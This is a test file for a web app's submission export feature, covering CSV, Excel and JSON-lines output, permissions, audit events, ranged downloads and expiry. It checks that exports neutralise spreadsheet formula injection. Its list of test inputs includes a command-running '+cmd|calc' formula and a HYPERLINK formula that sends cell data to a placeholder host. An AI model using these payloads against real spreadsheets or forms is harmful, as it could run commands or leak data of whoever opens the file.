import { createHash, randomUUID } from 'node:crypto';
import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { readSheet } from 'read-excel-file/node';
import { createEmptyDefinition, createField, type Answers } from '@inlay/sdk/model';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import { startTestApi, type TestApi, type TestPerson } from '../../../tests/support/api/testApi.ts';
import { csvLine } from './csv.ts';
import { removeExpiredExports } from './exportFile.ts';

let api: TestApi;
let dataFolder: string;
beforeAll(async () => {
  dataFolder = await mkdtemp(join(tmpdir(), 'inlay-exports-'));
  api = await startTestApi({ dataFolder });
});
afterAll(async () => {
  await api.stop();
  await rm(dataFolder, { recursive: true, force: true });
});

type Form = { id: string; revisionId: string };
const field = (type: 'text' | 'textarea' | 'address' | 'checkbox', id: string, label: string) => ({
  ...createField(type),
  id,
  label,
});
const definition = (title: string, ...fields: ReturnType<typeof field>[]) => ({
  ...createEmptyDefinition(title),
  fields,
});

/** Stored as it is, also what no visitor could send; the first is the oldest. */
async function store(form: Form, owner: TestPerson, answers: readonly Answers[]): Promise<string[]> {
  const ids: string[] = [];
  for (const [at, one] of answers.entries()) {
    const id = randomUUID();
    ids.push(id);
    await api.database.query(
      `insert into form_submissions (id, form_id, account_id, revision_id, submission_data, submitted_at,
         idempotency_key, content_hash, receipt_code)
       values ($1, $2, $3, $4, $5, $6, gen_random_uuid(), '', $7)`,
      [
        id,
        form.id,
        owner.userId,
        form.revisionId,
        JSON.stringify(one),
        new Date(Date.UTC(2026, 0, 31, 23, 30, at)),
        id,
      ],
    );
  }
  return ids;
}

interface Made {
  id: string;
  item: { state: string; rows: number; bytes: number; sha256: string; fileName: string };
  bytes: Buffer;
}
async function makeExport(person: TestPerson, request: object): Promise<Made> {
  const asked = await person.post('/api/exports', request);
  expect(asked.status).toBe(202);
  await api.runJobs();
  const item = (await person.get(`/api/exports/${asked.body.id}`)).body;
  return { id: asked.body.id, item, bytes: await download(person, asked.body.id) };
}
async function download(person: TestPerson, id: string): Promise<Buffer> {
  const response = await fetch(`${api.url}/api/exports/${id}/file`, { headers: { cookie: person.cookie } });
  return Buffer.from(await response.arrayBuffer());
}
const readCsv = (bytes: Buffer): string[][] => parse(bytes, { bom: true, record_delimiter: '\r\n' });
const readXlsx = async (bytes: Buffer) =>
  (await readSheet(bytes, { trim: false })).map((row) =>
    row.map((cell) => (cell === null ? '' : String(cell))),
  );

const home = {
  street: '1 Main St',
  address2: '',
  city: 'Bern',
  state: 'BE',
  postal: '3000',
  country: 'Other',
};

/** What people type, and worse. */
const NASTY = [
  'a "quoted" word, and a comma; and\ttab',
  'line one\nline two\r\nline three',
  '🎂 مرحبا Ünïcödé 👩‍👩‍👧',
  'x'.repeat(10_000),
  '<b>&amp;</b> ]]> _x0041_',
  ' leading and trailing ',
];
/** Formulas as T18 lists them, each with what CSV makes of it. */
const FORMULAS = [
  '=1+1',
  '+cmd|calc',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '＝1',
  '＋1',
  '－1',
  '＠1',
  '=HYPERLINK("http://a.example?"&A1,"x")',
  '-1-1-1-1-1-1-1',
];
/** An answer as it is printed everywhere: every kind of line end is one. */
const printed = (value: string) => value.replace(/\r\n?/g, '\n');
/** Left as they are (D-105). */
const HARMLESS = ['-5', '+3.14', '-1,234.50', '+49 30 1234567', '+1 (555) 010-0000', 'a=b', '1-2', ''];

test('SUBM-061 SUBM-062 SUBM-063 D-105 T18 a CSV comes back row for row, with nothing a spreadsheet would run', async () => {
  const owner = await api.signedIn();
  const form = await api.buildForm(owner, definition('Café & Co', field('text', 'a', '=Label "one"')));
  const values = [...NASTY, ...FORMULAS, ...HARMLESS];
  await store(
    form,
    owner,
    values.map((a) => ({ a })),
  );
  const { item, bytes } = await makeExport(owner, { format: 'csv', filter: { formId: form.id } });
  expect(item).toMatchObject({
    state: 'done',
    rows: values.length,
    bytes: bytes.length,
    fileName: 'Caf____Co_submissions.csv',
  });
  expect(createHash('sha256').update(bytes).digest('hex')).toBe(item.sha256);
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = bytes.toString('utf8').slice(1);
  expect(text.startsWith(`"Date","Time","'=Label ""one"""\r\n"2026-01-31","23:30:27"`)).toBe(true);
  expect(text.endsWith('"\r\n')).toBe(true);
  const [header, ...rows] = readCsv(bytes);
  expect(header).toEqual(['Date', 'Time', `'=Label "one"`]);
  const expected = [...NASTY, ...FORMULAS.map((value) => `'${value}`), ...HARMLESS].map(printed);
  expect(rows.map((row) => row[2]).reverse()).toEqual(expected);
  expect(FORMULAS.map((value) => csvLine([value]))).toEqual(
    FORMULAS.map((value) => `"'${value.replaceAll('"', '""')}"\r\n`),
  );
});

test('T18 an Excel file holds the same as strings', async () => {
  const owner = await api.signedIn();
  const form = await api.buildForm(owner, definition('Sheet', field('textarea', 'a', '=Label')));
  const values = [...NASTY.filter((value) => !value.includes('_x0041_')), ...FORMULAS, ...HARMLESS];
  await store(form, owner, [...values.map((a) => ({ a })), { a: '_x0041_ \u0001end' }]);
  const { item, bytes } = await makeExport(owner, { format: 'xlsx', filter: { formId: form.id } });
  expect(createHash('sha256').update(bytes).digest('hex')).toBe(item.sha256);
  const [header, escaped, ...rows] = await readXlsx(bytes);
  expect(header).toEqual(['Date', 'Time', '=Label']);
  expect(escaped?.[2]).toMatch(/^_x(005F_x)?0041_ end$/);
  expect(rows.map((row) => row[2] ?? '').reverse()).toEqual(values.map(printed));
  expect(bytes.includes('<f>')).toBe(false);
});

test('JSON lines hold every row with its answers as they are stored', async () => {
  const owner = await api.signedIn();
  const form = await api.buildForm(owner, definition('Lines', field('text', 'a', 'A')));
  const ids = await store(form, owner, [{ a: NASTY[1] ?? '' }, { a: '=1', captcha_tokens: 'secret' }]);
  const { bytes } = await makeExport(owner, { format: 'jsonl', filter: { formId: form.id } });
  const lines = bytes
    .toString()
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line));
  expect(lines).toMatchObject([
    { id: ids[1], form: 'Lines', answers: { a: '=1' } },
    { id: ids[0], submittedAt: '2026-01-31T23:30:00.000Z', answers: { a: NASTY[1] } },
  ]);
  expect(bytes.toString()).not.toContain('secret');
});

test('D-104 D-106 D-110 columns: forms share labels, removed fields stay, captcha keys never come out', async () => {
  const owner = await api.signedIn();
  const shop = await api.buildForm(
    owner,
    definition(
      'Shop',
      field('text', 'n', 'Name'),
      field('text', 'old', 'Colour'),
      field('text', 'number', 'Token number'),
    ),
  );
  await store(shop, owner, [
    { n: 'Ada', old: 'red', number: '7', captcha_tokens: 'x', favourite_cake: ['a', 'b'] },
  ]);
  const changed = definition('Shop', field('text', 'number', 'Token number'), field('text', 'n', 'Name'));
  await owner.put(`/api/forms/${shop.id}/definition`, { definition: changed, version: 2 });
  const address = field('address', 'adr', 'Address');
  const bank = await api.buildForm(
    owner,
    definition('Bank', field('text', 'x', 'Name'), field('text', 'y', 'Name'), address),
  );
  await store(bank, owner, [{ x: 'one', y: 'two', adr: home }]);
  const all = await makeExport(owner, { format: 'csv', filter: {} });
  expect(all.item.fileName).toBe('All_Forms_submissions.csv');
  const [header, ...rows] = readCsv(all.bytes);
  expect(header).toEqual([
    'Form',
    'Date',
    'Time',
    'Token number',
    'Name',
    'Colour',
    'Favourite cake',
    'Name',
    'Address',
  ]);
  expect(rows.map(([form, , , ...cells]) => [form, ...cells])).toEqual(
    expect.arrayContaining([
      ['Shop', '7', 'Ada', 'red', 'a, b', '', ''],
      ['Bank', '', 'one', '', '', 'two', '1 Main St, Bern, BE, 3000, Other'],
    ]),
  );
  const one = await makeExport(owner, { format: 'csv', filter: { formId: shop.id, zone: 'Asia/Tokyo' } });
  expect(readCsv(one.bytes)).toEqual([
    ['Date', 'Time', 'Token number', 'Name', 'Colour', 'Favourite cake'],
    ['2026-02-01', '08:30:00', '7', 'Ada', 'red', 'a, b'],
  ]);
});

test('SUBM-019 SUBM-067 selected rows only, outside the trash; nothing to export is said', async () => {
  const owner = await api.signedIn();
  const form = await api.buildForm(owner, definition('Some', field('text', 'a', 'A')));
  const ids = await store(form, owner, [{ a: '1' }, { a: '2' }, { a: '3' }]);
  await owner.post('/api/submissions/trash', { ids: [ids[2]] });
  const some = await makeExport(owner, { format: 'csv', ids: ids.slice(1), formId: form.id });
  expect(readCsv(some.bytes).map((row) => row[2])).toEqual(['A', '2']);
  const none = await owner.post('/api/exports', { format: 'csv', filter: { search: 'nothing like it' } });
  expect([none.status, none.body.error.message]).toEqual([422, 'No submissions to export']);
});

test('D-107 D-159 D-160 D-170 who may read may export, it is recorded, and ends with the reading', async () => {
  const [owner, assigned, stranger, admin] = [
    await api.signedIn(),
    await api.signedIn(),
    await api.signedIn(),
    await api.signedIn({ role: 'admin' }),
  ];
  const form = await api.buildForm(owner, definition('Shared', field('text', 'a', 'A')));
  const ids = await store(form, owner, [{ a: '1' }]);
  const assign = (userId: string | null) =>
    admin.patch(`/api/admin/forms/${form.id}/assignment`, { assignedToUserId: userId });
  await assign(assigned.userId);
  const request = { format: 'csv', filter: { formId: form.id } };
  for (const person of [owner, assigned, admin]) {
    const { id, bytes } = await makeExport(person, request);
    expect(readCsv(bytes)).toHaveLength(2);
    const events = await api.database.query<{ event_type: string; event_data: object }>(
      'select event_type, event_data from security_events where user_id = $1 order by id',
      [person.userId],
    );
    expect(events).toContainEqual({
      event_type: 'submissions_exported',
      event_data: { exportId: id, format: 'csv', rows: 1, formIds: [form.id] },
    });
    const isTraced = events.some(
      ({ event_type, event_data }) =>
        event_type === 'admin_access' && 'action' in event_data && event_data.action === 'export',
    );
    expect(isTraced).toBe(person === admin);
    expect((await stranger.get(`/api/exports/${id}`)).status).toBe(404);
    expect((await stranger.get(`/api/exports/${id}/file`)).status).toBe(404);
  }
  expect((await stranger.post('/api/exports', request)).status).toBe(404);
  expect((await stranger.post('/api/exports', { format: 'csv', ids })).status).toBe(422);
  const { id } = await makeExport(assigned, request);
  await assign(null);
  expect((await assigned.get(`/api/exports/${id}/file`)).status).toBe(404);
});

test('a broken download goes on where it ended, and another version is sent whole', async () => {
  const owner = await api.signedIn();
  const form = await api.buildForm(owner, definition('Part', field('text', 'a', 'A')));
  await store(form, owner, [{ a: 'x'.repeat(5_000) }]);
  const { id, bytes, item } = await makeExport(owner, { format: 'csv', filter: { formId: form.id } });
  const get = (headers: Record<string, string>) => owner.send('GET', `/api/exports/${id}/file`, { headers });
  const rest = await get({ range: 'bytes=1000-', 'if-range': `"${item.sha256}"` });
  expect([rest.status, rest.headers.get('content-range')]).toEqual([
    206,
    `bytes 1000-${bytes.length - 1}/${bytes.length}`,
  ]);
  expect(rest.text).toBe(bytes.subarray(1000).toString());
  expect((await get({ range: 'bytes=-10' })).text).toBe(bytes.subarray(-10).toString());
  expect((await get({ range: 'bytes=5-9' })).text).toBe(bytes.subarray(5, 10).toString());
  expect((await get({ range: 'bytes=1000-', 'if-range': '"other"' })).status).toBe(200);
  expect((await get({ range: `bytes=${bytes.length}-` })).status).toBe(416);
  const whole = await get({});
  expect(whole.headers.get('content-disposition')).toBe('attachment; filename="Part_submissions.csv"');
  expect(whole.headers.get('cache-control')).toBe('no-store');
});

test('T40 a file is there for a day, and what belongs to no export is removed', async () => {
  const owner = await api.signedIn();
  const form = await api.buildForm(owner, definition('Gone', field('text', 'a', 'A')));
  await store(form, owner, [{ a: '1' }]);
  const { id } = await makeExport(owner, { format: 'csv', filter: { formId: form.id } });
  const folder = join(dataFolder, 'exports');
  await writeFile(join(folder, `${randomUUID()}.csv.part`), 'left behind');
  await api.database.query(`update exports set expires_at = now() - interval '1 minute' where id = $1`, [id]);
  expect((await owner.get(`/api/exports/${id}/file`)).status).toBe(404);
  await removeExpiredExports({ config: { dataFolder }, orm: api.deps.orm });
  const files = await readdir(folder);
  expect(files.filter((name) => name.startsWith(id) || name.endsWith('.part'))).toEqual([]);
});

test('D-104 D-107 the export as one answer holds what the file holds, and ends when nobody reads it', async () => {
  const [owner, stranger] = [await api.signedIn(), await api.signedIn()];
  const fields = [field('text', 'a', 'A'), field('checkbox', 'b', 'B'), field('address', 'c', 'C')];
  const [one, other] = [
    await api.buildForm(owner, definition('One', ...fields)),
    await api.buildForm(owner, definition('Other', ...fields)),
  ];
  const rows = [...NASTY, ...FORMULAS, ...HARMLESS].map((a) => ({ a, b: true, c: { ...home, street: a } }));
  await store(one, owner, rows);
  await store(other, owner, rows);
  const stream = async (query: string) => {
    const response = await fetch(`${api.url}/api/submissions/export${query}`, {
      headers: { cookie: owner.cookie },
    });
    return { response, bytes: Buffer.from(await response.arrayBuffer()) };
  };
  for (const filter of [{}, { formId: one.id }]) {
    for (const format of ['csv', 'jsonl']) {
      const file = await makeExport(owner, { format, filter });
      const { response, bytes } = await stream(`?${new URLSearchParams({ ...filter, format })}`);
      expect(bytes.equals(file.bytes)).toBe(true);
      expect(response.headers.get('content-disposition')).toContain(file.item.fileName);
    }
  }
  // One form is written by the database, several are written here: cell by cell the same.
  const cells = async (query: string) => readCsv((await stream(query)).bytes);
  const ofAll = (await cells('')).filter(([form]) => form === 'One').map((row) => row.slice(1));
  expect((await cells(`?formId=${one.id}`)).slice(1)).toEqual(ofAll);
  expect((await stranger.get(`/api/submissions/export?formId=${one.id}`)).status).toBe(404);
  expect((await stranger.get('/api/submissions/export')).status).toBe(422);
  expect((await owner.get('/api/submissions/export?format=xlsx')).status).toBe(400);
  for (let count = 0; count < 3; count++) {
    const left = new AbortController();
    await fetch(`${api.url}/api/submissions/export`, {
      headers: { cookie: owner.cookie },
      signal: left.signal,
    });
    left.abort();
  }
  // Whoever left took no place with him.
  await vi.waitFor(async () => expect((await owner.get('/api/submissions/export')).status).toBe(200));
});
